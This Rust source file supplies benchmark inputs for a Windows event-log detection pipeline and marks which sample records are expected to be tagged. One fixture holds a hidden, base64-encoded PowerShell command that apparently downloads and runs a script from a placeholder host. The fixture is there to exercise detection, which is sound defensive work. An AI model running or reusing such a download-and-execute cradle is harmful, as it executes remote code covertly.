//! Records by which cost is measured: by the benchmarks, and by the test that holds it to its budget.

use crate::inputs::samples::{Sample, Shape};

/// A kind of record, with the number of tags that it must give: a benchmark that measures nothing is caught.
#[derive(Debug, Clone)]
pub struct Input {
    /// The name of the record.
    pub name: &'static str,
    /// The record.
    pub record: String,
    /// True if it is tagged.
    pub tagged: bool,
}

/// One record of each kind that a pipeline carries.
pub fn inputs() -> Vec<Input> {
    let other = Sample { content: logon_text(), ..Sample::new(4624, "", "") };
    let benign = Sample::new(4702, r"%windir%\system32\defrag.exe", "-c -h -k -g -$");
    let encoded = Sample::new(
        4698,
        "powershell.exe",
        "-w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A\
         dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBhACcAKQA=",
    );
    let plain = Sample::new(4698, "powershell.exe", r"-NoProfile -File C:\Scripts\nightly.ps1");
    let input = |name, record, tagged| Input { name, record, tagged };
    vec![
        input("other event, winevtlog", other.record(Shape::Winevtlog), false),
        input("other event, flat, id last", id_last(&other), false),
        input("other event, as XML", other.record(Shape::WinevtlogXml), false),
        input(
            "log line",
            format!(r#"{{"log":"{}","stream":"stdout"}}"#, "an ordinary line ".repeat(20)),
            false,
        ),
        input("benign task, winevtlog", benign.record(Shape::Winevtlog), false),
        input("plain PowerShell, winevtlog", plain.record(Shape::Winevtlog), true),
        input("encoded PowerShell, winevtlog", encoded.record(Shape::Winevtlog), true),
        input("encoded PowerShell, flat, escaped", encoded.record(Shape::NxlogEscaped), true),
    ]
}

/// A flat record of 3.7 kB in which nothing comes where it is expected: the id is the last of many members.
fn id_last(sample: &Sample) -> String {
    let members: String =
        (0..40).map(|n| format!(r#""Field{n}":"value {n} of an event from some shipper","#)).collect();
    format!(
        r#"{{{members}"Message":{:?},"EventID":4624}}"#,
        sample.content.replace(['\r', '\n', '\t'], " ").repeat(2)
    )
}

/// As much text as a logon event has.
fn logon_text() -> String {
    "An account was successfully logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-5-18\r\n\tAccount Name:\t\tWS17$\r\n"
        .repeat(8)
}
